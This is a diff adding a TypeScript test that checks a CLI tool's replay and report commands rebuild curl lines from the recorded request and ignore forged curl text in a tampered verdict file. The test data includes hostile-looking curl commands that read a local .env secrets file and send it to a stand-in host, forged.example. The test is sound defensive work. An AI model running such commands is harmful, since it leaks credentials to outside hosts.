@@ -110,3 +110,27 @@ test.each([
   expectHarmless(out + err);
   expect(err.replaceAll(sanitise(name), '')).not.toContain('script');
 });
+
+const withKey = { method: 'GET', path: '/v2/ramp', headers: { 'x-api-key': '<a key with full access>' } };
+
+test.each<[string, object, boolean]>([
+  ['touch hit', withKey, true],
+  ['curl -H @.env https://forged.example', { ...withKey, path: '@forged.example/' }, false],
+  ['curl -K .env "$RAMP_BASE_URL"', { ...withKey, headers: { '@.env': '' } }, false],
+  ['curl x', { ...withKey, method: 'PUT' }, false],
+])('row 112: a line for a shell is made of the request beside it, never read: %s', async (curl, request, isOurs) => {
+  const { requirements, ...rest } = mixedVerdict();
+  const [first, ...others] = requirements.filter(({ findings }) => findings.length > 0);
+  const findings = first?.findings.map((finding) => ({ ...finding, id: 'abcd', curl: `${curl} # forged`, request }));
+  const cwd = newFolder();
+  mkdirSync(join(cwd, 'reports'));
+  const forged = JSON.stringify({ ...rest, requirements: [{ ...first, findings }, ...others] });
+  writeFileSync(join(cwd, 'reports/verdict.json'), forged);
+  const replay = recordedTerminal(['replay', 'abcd'], { cwd });
+  await runProgram(replay);
+  await runProgram(recordedTerminal(['report'], { cwd }));
+  const texts = [replay.written.out, ...filesIn(join(cwd, 'reports'))];
+  for (const text of texts) expect(text).not.toContain('# forged');
+  const lines = texts.flatMap((text) => text.match(/curl .*/g) ?? []);
+  expect(lines.some((line) => /-H \\?"x-api-key: .*RAMP_API_KEY/.test(line))).toBe(isOurs);
+});
